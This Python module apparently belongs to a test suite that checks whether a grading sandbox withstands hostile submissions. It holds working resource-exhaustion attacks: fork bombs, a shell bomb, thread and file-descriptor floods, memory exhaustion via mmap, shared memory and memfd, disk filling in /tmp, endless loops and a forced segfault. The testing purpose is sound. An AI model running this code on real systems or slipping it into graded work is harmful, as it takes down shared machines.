"""Use up the machine: processes, memory, disk, time."""

from .base import Attack, code

PROCESSES = "fork bombs"
MEMORY = "memory"
DISK = "disk"
TIME = "time"


def using(name: str, family: str, tries: str, source: str, **more: object) -> Attack:
    """Return an attack in the first cell; everything here that uses up the machine is dangerous."""
    return Attack(name, family, tries, {"fit_least_squares": source}, dangerous=True, **more)


def called(name: str, family: str, tries: str, body: str) -> Attack:
    """Return an attack in the function that is called by the grader."""
    body = "\n".join("    " + line for line in code(body).splitlines())
    return Attack(
        name,
        family,
        tries,
        {"fit_least_squares": f"def fit_least_squares(X, y):\n{body}\n    return 0.0"},
        dangerous=True,
    )


ATTACKS = [
    using(
        "fork_bomb",
        PROCESSES,
        "doubles its processes until the system says no, and keeps them all busy",
        """
        import os, time
        end = time.monotonic() + 5
        while time.monotonic() < end:
            try:
                os.fork()
            except OSError:
                time.sleep(0.01)
        """,
    ),
    called(
        "fork_bomb_when_called",
        PROCESSES,
        "forks without end while it is called",
        """
        import os, time
        end = time.monotonic() + 3
        while time.monotonic() < end:
            try:
                os.fork()
            except OSError:
                pass
        """,
    ),
    using(
        "shell_bomb",
        PROCESSES,
        "starts the classic shell function that calls itself twice",
        """
        import subprocess
        bomb = "b() { b | b & }; b"
        try:
            subprocess.run(["timeout", "-s", "KILL", "5", "bash", "-c", bomb], timeout=6)
        except Exception as error:
            print(type(error).__name__)
        """,
    ),
    using(
        "thread_bomb",
        PROCESSES,
        "starts threads until no more can be started, and opens files until no more can be opened",
        """
        import os, threading, time
        kept = []
        try:
            while len(kept) < 50_000:
                threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
                kept.append(os.open("/dev/null", os.O_RDONLY))
        except BaseException as error:
            print(len(kept), type(error).__name__)
        """,
    ),
    using(
        "memory_list",
        MEMORY,
        "fills the memory with lists",
        "kept = []\nwhile True:\n    kept.append(bytearray(50_000_000))",
    ),
    called(
        "memory_when_called", MEMORY, "fills the memory while it is called", "return [b'x' * 10**9 for _ in range(60)]"
    ),
    using(
        "memory_of_many",
        MEMORY,
        "lets many processes fill the memory at the same time, each a little",
        """
        import os, time
        for _ in range(40):
            try:
                if os.fork() == 0:
                    kept = bytearray(os.urandom(1)) * 1_500_000_000
                    time.sleep(10)
                    os._exit(0)
            except OSError:
                break
        time.sleep(4)
        """,
    ),
    using(
        "memory_shared",
        MEMORY,
        "fills the memory with shared mappings and System V segments, which outlive a process",
        """
        import ctypes, mmap
        libc = ctypes.CDLL(None, use_errno=True)
        kept = []
        for _ in range(60):
            try:
                area = mmap.mmap(-1, 500_000_000)
                for place in range(0, len(area), 4096):
                    area[place] = 1
                kept.append(area)
            except (OSError, ValueError, MemoryError) as error:
                print(error)
                break
        libc.shmat.restype = ctypes.c_void_p
        for _ in range(10):
            number = libc.shmget(0, 500_000_000, 0o1666)
            if number >= 0:
                place = libc.shmat(number, None, 0)
                if place and place != ctypes.c_void_p(-1).value:
                    ctypes.memset(place, 1, 500_000_000)
        """,
    ),
    using(
        "memory_files",
        MEMORY,
        "fills the memory with memfd files and files in /dev/shm, which no limit on the heap counts",
        """
        import os
        block = b"x" * 10_000_000
        kept = []
        try:
            for _ in range(20):
                number = os.memfd_create("kept")
                kept.append(number)
                for _ in range(100):
                    os.write(number, block)
        except (OSError, AttributeError) as error:
            print(error)
        try:
            with open("/dev/shm/@MARK@-shm", "wb") as file:
                for _ in range(2_000):
                    file.write(block)
        except OSError as error:
            print(error)
        """,
    ),
    using(
        "disk_full",
        DISK,
        "fills the temporary folder and its own folder with one huge file each",
        """
        import os
        block = b"x" * 10_000_000
        for folder in ("/tmp", ".", "/var/tmp"):
            try:
                with open(os.path.join(folder, "@MARK@-huge"), "wb") as file:
                    for _ in range(2_000):
                        file.write(block)
            except BaseException as error:
                print(folder, type(error).__name__)
        """,
    ),
    using(
        "disk_of_small_files",
        DISK,
        "creates 100,000 small files, and folders inside folders until the path is too long",
        """
        import os
        for folder in ("/tmp", "."):
            try:
                target = os.path.join(folder, "@MARK@-many")
                os.makedirs(target)
                for number in range(100_000):
                    with open(os.path.join(target, str(number)), "w") as file:
                        file.write("x")
            except BaseException as error:
                print(folder, type(error).__name__)
        """,
    ),
    called("endless_loop", TIME, "swallows every exception in an endless loop", """
        while True:
            try:
                while True:
                    pass
            except BaseException:
                continue
    """),
    called("endless_in_c", TIME, "computes a huge power, which no exception interrupts", "return (3 ** (10 ** 9)) % 7"),
    called("recursion", TIME, "overflows the stack of the interpreter", """
        import ctypes, sys
        sys.setrecursionlimit(10 ** 9)
        def down():
            return down()
        try:
            down()
        except RecursionError:
            ctypes.string_at(0)
    """),
]  # fmt: skip
